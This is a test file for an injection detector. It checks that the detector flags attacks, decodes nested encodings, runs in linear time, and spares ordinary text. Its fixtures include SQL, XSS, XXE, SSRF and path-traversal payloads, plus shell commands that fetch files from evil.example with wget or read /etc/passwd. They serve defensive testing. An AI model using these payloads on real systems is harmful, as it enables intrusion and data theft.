import { checkLinear } from '../../../tools/count-work.ts';
import { deepEqual, ok } from 'node:assert/strict';
import { test } from 'node:test';
import { OutOfSteps, StepBudget } from '#work';
import { type AttackKind, attackKinds, inspectText } from '#detection';

function kindsOf(text: string): readonly AttackKind[] {
  return inspectText(text)
    .filter(({ confidence }) => confidence >= 80)
    .map(({ kind }) => kind);
}

/** One text for each kind that only its detector is sure of. */
const examples: Readonly<Record<AttackKind, string>> = {
  sql: "x' and sleep(5)-- ",
  script: '<svg/onload=alert(1)>',
  command: ';wget http://evil.example/x -O /tmp/x',
  path: '../../../../etc/passwd',
  code: '{{7*7}}',
  nosql: "' || this.password.match(/^a/)//",
  ldap: '*)(uid=*))(|(uid=*',
  ssrf: 'http://169.254.169.254/latest/meta-data/',
  deserialisation: 'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ',
  xxe: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
  crlf: 'x\r\nSet-Cookie: a=b',
};

test('inspectText finds an attack of every kind, and says what it read and why', () => {
  for (const kind of attackKinds) {
    const found = inspectText(examples[kind]).find((each) => each.kind === kind);
    ok(found !== undefined && found.confidence >= 80, `${kind}: ${examples[kind]}`);
    ok(found.read !== '' && found.why !== '', kind);
    deepEqual(examples[kind].slice(found.at, found.at + found.read.length), found.read);
  }
});

function encodeBytes(text: string): string {
  return text.replaceAll(/[^]/g, (each) => `%${each.charCodeAt(0).toString(16).padStart(2, '0')}`);
}

test('inspectText undoes encodings one below the other', () => {
  const script = '<script>alert(1)</script>';
  const encodings: Readonly<Record<string, (text: string) => string>> = {
    URL: encodeURIComponent,
    'HTML entities': (text) => text.replaceAll(/[^]/g, (each) => `&#${each.charCodeAt(0)};`),
    'script escapes': (text) =>
      text.replaceAll(/[^]/g, (each) => `\\x${each.charCodeAt(0).toString(16).padStart(2, '0')}`),
    Base64: (text) => Buffer.from(text).toString('base64'),
    'full-width letters': (text) =>
      Buffer.from(
        text.replaceAll(/[!-~]/g, (each) => String.fromCharCode(each.charCodeAt(0) + 0xfee0)),
      ).toString('latin1'),
    'overlong UTF-8': (text) =>
      text.replaceAll(/[^]/g, (each) =>
        String.fromCharCode(0xc0 | (each.charCodeAt(0) >> 6), 0x80 | (each.charCodeAt(0) & 0x3f)),
      ),
    nulls: (text) => text.replaceAll('scr', 'sc\0r'),
  };
  for (const [name, encode] of Object.entries(encodings)) {
    const [found] = inspectText(encode(script));
    ok(found?.kind === 'script' && found.undone.includes(name), `${name}: ${encode(script)}`);
    // Encoded in two ways, the outer one first.
    const [twice] = inspectText(encodeBytes(encode(script)));
    ok(twice?.kind === 'script', `URL and ${name}`);
  }
});

test('inspectText finds texts inside of a text', () => {
  const attack = "x' union select 1,2--";
  const cases: readonly (readonly [text: string, inside: readonly string[]])[] = [
    [JSON.stringify({ a: { note: attack } }), ['note']],
    [`a=1&b=${encodeURIComponent(attack)}`, ['b']],
    [`https://example.com/x?next=${encodeURIComponent(attack)}`, ['next']],
    [Buffer.from(JSON.stringify({ id: attack })).toString('base64'), ['id']],
    [`query { user(id: "${attack}") { name } }`, ['']],
  ];
  for (const [text, inside] of cases) {
    const found = inspectText(text).find(({ kind }) => kind === 'sql');
    ok(found !== undefined && found.confidence >= 80, text);
    deepEqual(found.inside, inside, text);
  }
});

test('inspectText leaves names, sentences, code in posts and redirects alone', () => {
  const ordinary = [
    "Conan O'Brien",
    "5' or 6' tall",
    'western union select committee',
    'Update 15 -- please select a date from the list',
    'dog food; cat food; and toys',
    'Tom & Jerry; who is who?',
    'https://app.example.com/callback?state=1;2&next=https%3A%2F%2Fexample.com%2F',
    'http://localhost:3000/callback',
    '<p>Use &lt;script&gt; and <a href="https://example.com/">links</a></p>',
    'Run `npm install` and `ls -la` first.',
    'Dear {{first_name}}, your order {{order.number}} is on its way.',
    'project = ABC and status = "Done" order by created',
    '../../lib/format.js',
    'javascript:void(0)',
    'name|id|email',
    '1=1',
  ];
  for (const text of ordinary) deepEqual(kindsOf(text), [], text);
});

const pumped = ["'", '" onx=', '`', '(', ')(', '<a b="', '<', '/*', '--', ';cat ', '|', '${', '$(', '{{', '[]', 'window[', '../', '%25', '&#60;', '\\x41', '\xc0', 'select(', 'union select ', 'a=1&', '{"a":"', 'alert (', "c'a'", 'O:1:', '\r\n', ' ']; // prettier-ignore

test('inspectText takes steps in proportion to the length, whatever is pumped', () => {
  for (const unit of pumped) {
    checkLinear(unit, (size) => () => inspectText(unit.repeat(size)), [1_024, 8_192]);
  }
});

/** The lowest CPU time of some runs: work inside of V8 is not counted as steps. */
function measureCpuMs(run: () => unknown): number {
  const measured = Array.from({ length: 4 }, () => {
    const before = process.cpuUsage();
    run();
    const { user, system } = process.cpuUsage(before);
    return (user + system) / 1_000;
  });
  return Math.min(...measured);
}

const growing: Readonly<Record<string, (count: number) => string>> = {
  'blank lines before code': (count) => `${'\r\n'.repeat(count)}${"{{';cat a\r\n'".repeat(count)}`,
  'letters before a command': (count) => `${'a'.repeat(8 * count)};whoami`,
  'commands one behind the other': (count) => '^1__proto__.;cat a'.repeat(count),
};

for (const [what, write] of Object.entries(growing)) {
  test(`inspectText reads thousands of ${what} in a time that grows as their number`, () => {
    const [few, many] = [512, 8_192].map((count) => measureCpuMs(() => inspectText(write(count)))) as [
      number,
      number,
    ];
    // Sixteen times as many; quadratic time would be some 150 times as long.
    ok(many < 40 * Math.max(few, 1), `${few.toFixed(1)} ms for 512, ${many.toFixed(1)} ms for 8,192`);
  });
}

test('inspectText charges its budget and stops when that is used up', () => {
  const text = '%2525'.repeat(20_000);
  const budget = new StepBudget(100_000);
  let error: unknown;
  try {
    budget.run(() => inspectText(text));
  } catch (thrown) {
    error = thrown;
  }
  ok(error instanceof OutOfSteps);
});

test('inspectText is not sure of what a page, a type or a sentence shows, but of what runs in it', () => {
  const page = (script: string): string =>
    `<!doctype html>\n<html><head><title>Shop</title>${script}</head><body></body></html>`;
  const shown: readonly string[] = [
    page('<script type="module" crossorigin src="./assets/index-C_gc.js"></script>'),
    page('<script type="importmap">{"imports":{"a":"./a.js"}}</script>'),
    "operator?: 'and' | 'or' | 'AND' | 'OR';",
    "Searches for 'union select', and error texts, are not stopped.",
  ];
  for (const text of shown) deepEqual(kindsOf(text), [], text);
  const running: readonly (readonly [string, AttackKind])[] = [
    [page('<script>alert(1)</script>'), 'script'],
    [page('<script src="//evil.example/x.js"></script>'), 'script'],
    [page('<script src="./a.js">alert(1)</script>'), 'script'],
    ['{"command":"x; cat /etc/passwd"}', 'command'],
    [JSON.stringify({ scripts: { a: '; cat /etc/passwd' } }), 'command'],
    ["1'or'1'='1", 'sql'],
    ["1 'union select 'a','b", 'sql'],
  ];
  for (const [text, kind] of running) ok(kindsOf(text).includes(kind), text);
});

test('inspectText is sure of options that run a program, behind other options and without a space', () => {
  for (const text of [
    'x --checkpoint=1 --checkpoint-action=exec=sh x.sh',
    '--to-command=id',
    '--use-askpass=id',
  ])
    ok(kindsOf(text).includes('command'), text);
  for (const text of ['Our manual explains --to-command=id in chapter two', 'a-b=c', '--output=x --verbose'])
    deepEqual(kindsOf(text), [], text);
});

test('inspectText comes to an end where a pattern has many ways to read a text', () => {
  // Each step doubled the time, or each kilobyte made it eight times as long.
  for (const text of [
    `please read this here ${'../../'.repeat(400)}x`,
    `please read this here ${'....//\\'.repeat(200)}x`,
    `powershell ${'-a \n\t \n b '.repeat(200)}-`,
    `powershell -a${' '.repeat(4_000)}`,
    `../${'/'.repeat(2_000)}`,
  ])
    deepEqual(kindsOf(text), [], text.slice(0, 40));
  ok(kindsOf(`please read this here ${'../../'.repeat(80)}etc/passwd`).includes('path'));
  ok(kindsOf('powershell -nop  -w hidden -enc ZQBjAGgAbwA=').includes('command'));
});

test('inspectText reads a long value below two layers of encoding, with nulls and comments between', () => {
  const long = 'lorem '.repeat(6_000);
  const tag = '<img src=x onerror=alert(1)>';
  for (const hidden of [
    encodeURIComponent(tag),
    encodeURIComponent(encodeURIComponent(tag)),
    encodeURIComponent(`\0/**/${tag.replace('onerror', 'on\0er/**/ror')}`),
  ])
    ok(kindsOf(long + hidden).includes('script'), hidden);
});

test('inspectText finds a program at either end of a very long word', () => {
  const directories = 'a/../'.repeat(800);
  deepEqual(kindsOf(`x; /${directories}bin/wget http://evil.example/x -O /tmp/x`).includes('command'), true);
  deepEqual(kindsOf(`x; /${directories}b?n/w?et http://evil.example/x -O /tmp/x`).includes('command'), true);
  deepEqual(kindsOf(`x; wget\${IFS}http://evil.example/${'a'.repeat(5_000)}`).includes('command'), true);
});
